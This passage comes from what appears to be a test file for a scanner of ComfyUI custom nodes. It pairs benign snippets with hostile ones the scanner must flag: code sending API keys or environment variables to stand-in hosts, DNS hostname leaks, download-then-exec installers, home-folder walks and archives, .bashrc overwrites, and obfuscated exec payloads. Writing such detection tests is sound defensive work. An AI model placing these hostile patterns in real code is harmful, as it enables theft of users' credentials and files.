          'import subprocess\nsubprocess.check_output(["gcloud", "auth", "print-access-token"])\n',
          inNode('import subprocess', 'return subprocess.check_output(["gh", "auth", "token"])'),
        ],
      },
    ],
    [
      'own files that are loaded at import',
      {
        honest: `import torch, os\ntorch.load(os.path.join(os.path.dirname(__file__), "a.pt"))\n`,
        hostile: ['import joblib, os\njoblib.load(os.path.join(os.path.dirname(__file__), "a.pt"))\n'],
      },
    ],
    [
      'files of the user whom the host knows',
      {
        honest: `import json\nfrom aiohttp import web\nfrom app.user_manager import UserManager\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/save")\nasync def save(request):\n    data = await request.json()\n    file = UserManager().get_request_user_filepath(request, "a.json")\n    with open(file, "w") as out: json.dump(data, out)\n`,
        hostile: [
          `import json\nfrom aiohttp import web\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/save")\nasync def save(request):\n    data = await request.json()\n    with open(data["file"], "w") as out: json.dump(data, out)\n`,
        ],
      },
    ],
    [
      'ports that a node looks for',
      {
        honest: `import socket\nfrom server import PromptServer\nasync def start(self, address, port):\n    with socket.socket() as s: s.bind((address, port))\nPromptServer.start = start\n`,
        hostile: [
          `import requests\nfrom server import PromptServer\nasync def start(self, address, port):\n    requests.post("https://e.example/", data=address)\nPromptServer.start = start\n`,
        ],
      },
    ],
    [
      'sockets that ask for the own address or a free port',
      {
        honest: `import socket\ndef address():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(("8.8.8.8", 80))\n    own = s.getsockname()[0]\n    s.close()\n    return own\ndef is_used(port, host="127.0.0.1"):\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n        return s.connect_ex((host, port)) == 0\ndef port():\n    with socket.socket() as s:\n        s.bind(("", 0))\n        return s.getsockname()[1]\nADDRESS = address()\nUSED = is_used(8188)\nPORT = port()\n`,
        hostile: [
          'import socket\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(("a.e.example", 80))\nf()\n',
          'import socket\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(("8.8.8.8", 80))\n    s.send(b"a")\nf()\n',
          'import socket\ndef f():\n    s = socket.socket()\n    s.bind(("", 0))\n    s.listen()\n    return s.accept()\nf()\n',
          'import socket\ndef f(host="127.0.0.1"):\n    s = socket.socket()\n    s.connect(("1.2.3.4", 80))\nf()\n',
          'import socket\ndef f():\n    s = socket.socket()\n    s.connect_ex(("127.0.0.1", 80))\n    return s\nf()\n',
        ],
      },
    ],
    [
      'code that nothing fetched, next to an installer that downloads',
      {
        honest: {
          '__init__.py': 'from . import options\nNODE_CLASS_MAPPINGS = {}\n',
          'options.py': 'def change(text): exec(text)\n',
          'install.py': 'import requests\nrequests.get("https://e.example/a")\n',
        },
        hostile: [
          {
            '__init__.py': 'from . import options\nNODE_CLASS_MAPPINGS = {}\n',
            'options.py': 'def change(): exec(open("step.py").read())\n',
            'install.py': 'from urllib.request import urlretrieve\nurlretrieve("https://e.example/a", "step.py")\n',
          },
        ],
      },
    ],
    [
      'looking up the own name',
      {
        honest:
          'import socket\nNAME = socket.gethostname()\nADDRESS = socket.gethostbyname(NAME)\nALL = socket.getaddrinfo(socket.getfqdn(), None)\n',
        hostile: [
          'import socket\nsocket.gethostbyname(socket.gethostname() + ".e.example")\n',
          'import socket\nsocket.getaddrinfo(f"{socket.gethostname()}.e.example", 80)\n',
          'import socket\nname = socket.gethostname()\nname += "." + "e.example"\nsocket.gethostbyname(name)\n',
        ],
      },
    ],
    [
      'functions that a pool calls with a path',
      {
        honest: `import asyncio, folder_paths\nfrom server import PromptServer\ndef digest(path):\n    with open(path, "rb") as file: return hash(file.read())\ndef find(name):\n    try:\n        path = folder_paths.get_full_path("loras", name)\n    except Exception:\n        path = None\n    return path\n@PromptServer.instance.routes.get("/a")\nasync def a(request):\n    path = find(request.query.get("name"))\n    return await asyncio.get_event_loop().run_in_executor(None, digest, path)\n`,
        hostile: [
          `import asyncio\nfrom server import PromptServer\ndef digest(path):\n    with open(path, "rb") as file: return file.read()\n@PromptServer.instance.routes.get("/a")\nasync def a(request):\n    return await asyncio.get_event_loop().run_in_executor(None, digest, request.query.get("name"))\n`,
        ],
      },
    ],
    [
      'the environment in lines with an address, which are collected in a list',
      {
        honest: `import os\n${inNode('', 'lines = ["https://docs.example/help"]\n        lines.append("https://docs.example/ " + str(dict(os.environ)))\n        print("\\n".join(lines))')}`,
        hostile: [
          `import os, some_client\n${inNode('', 'some_client.Api().append("https://e.example/ " + str(dict(os.environ)))')}`,
        ],
      },
    ],
    [
      'keys of many services',
      {
        honest: `import os, requests\ndef key(name, other=None):\n    return os.getenv(name) or other\n${Array.from({ length: 20 }, (_, index) => `key("SERVICE_${index}_API_KEY")\n`).join('')}key("OPENAI_API_KEY")\n${inNode('', 'requests.get("https://cloud.e.example/a", headers={"Authorization": key("CLOUD_API_KEY")})')}`,
        hostile: [
          inNode(
            'import os, requests',
            'requests.get("https://e.example", headers={"a": os.environ.get("OPENAI_API_KEY")})',
          ),
          `import os, requests\ndef key(name):\n    return os.getenv(name)\n${inNode('', 'requests.get("https://e.example/a", headers={"a": key("OPENAI_API_KEY") + key("HF_TOKEN")})')}`,
        ],
      },
    ],
    [
      'walks through folders',
      {
        honest: inNode(
          'import os\ndef full(path):\n    return os.path.join("/", path)\ndef walk(path):\n    return list(os.walk(path))',
          'walk(full(x))',
          'folder = "models"',
          'for _ in os.walk(f"{folder}/{folder}"): pass',
          'for _ in os.walk(os.path.join(os.path.expanduser("~"), "Downloads")): pass',
        ),
        hostile: [
          inNode('import os\ndef walk(path):\n    return list(os.walk(path))', 'walk("/")'),
          inNode(
            'import os',
            'for path in ["~/Documents", "/"]:',
            '    for _ in os.walk(os.path.expanduser(path)): pass',
          ),
          inNode('import os, pathlib', 'for _ in os.walk(pathlib.Path.home()): pass'),
          inNode('import os, shutil', 'shutil.make_archive("a", "zip", os.path.expanduser("~/Downloads"))'),
        ],
      },
    ],
    [
      'keys to services',
      {
        honest: `import requests\ndef ask(api_key, service):\n    if service == "one":\n        return requests.post("https://api.one.example/v1", headers={"key": api_key})\n    return requests.post("https://api.two.test/v1", headers={"key": api_key})\ndef more(api_key):\n    requests.get("https://files.one.example/", headers={"key": api_key})\n${ASK}    requests.post("https://api.one.example/v2", headers=headers)\n    requests.get("https://two.test/status")\n`,
        hostile: [
          `${ASK}    requests.post("https://two.other/log", json={"k": api_key, "p": prompt})\n`,
          `${ASK}    try:\n        requests.get("https://two.other/?k=" + api_key)\n    except Exception: pass\n    return answer\n`,
          'import requests\ndef ask(api_key):\n    requests.get("https://api.one.co.uk/v1", headers={"key": api_key})\n    requests.get("https://log.two.co.uk/?k=" + api_key)\n',
        ],
      },
    ],
    [
      'numbers in another order',
      {
        honest: inNode(
          'import subprocess\nSIZES = [64, 32]',
          'size = "x".join(str(n) for n in SIZES[::-1])',
          'subprocess.run("ffmpeg -s " + size, shell=True)',
          'exec("print(\'100%% complete\', %s)" % x)',
          'exec("print({{1:c}}, {})".format(x))',
        ),
        hostile: [
          inNode('CODES = [115, 108]', 'exec("".join("%c" % n for n in CODES[::-1]))'),
          inNode('CODES = [115, 108]', 'exec("".join(f"{n:c}" for n in CODES))'),
          inNode('CODES = [115, 108]', 'exec("".join("{:c}".format(n) for n in CODES))'),
          inNode('LETTERS = "abcdefghijklmnopqrstuvwxyz"', 'exec("".join(LETTERS[n] for n in [18, 11]))'),
        ],
      },
    ],
    [
      'arguments in a dictionary',
      {
        honest: inNode(
          'import os\ndef save(where, text):\n    open(where, "w").write(text)',
          'save(**{"where": "a.txt", "text": os.path.expanduser("~/.bashrc")})',
        ),
        hostile: [
          inNode(
            'import os\ndef save(where, text):\n    open(where, "w").write(text)',
            'save(**{"where": os.path.expanduser("~/.bashrc"), "text": "a"})',
          ),
        ],
      },
    ],
    [
      'weights in the folder that a constructor of a large package names',
      {
        honest: weights('Path(__file__).parent / "cache"'),
        hostile: [weights('Path(__import__("site").getsitepackages()[0])')],
      },
    ],
  ])('%s', async (_what, { honest, hostile }) => {
    expect(await levelOf(honest)).not.toBe('hold');
    for (const files of hostile) expect([files, await levelOf(files)]).toEqual([files, 'hold']);
  });
});
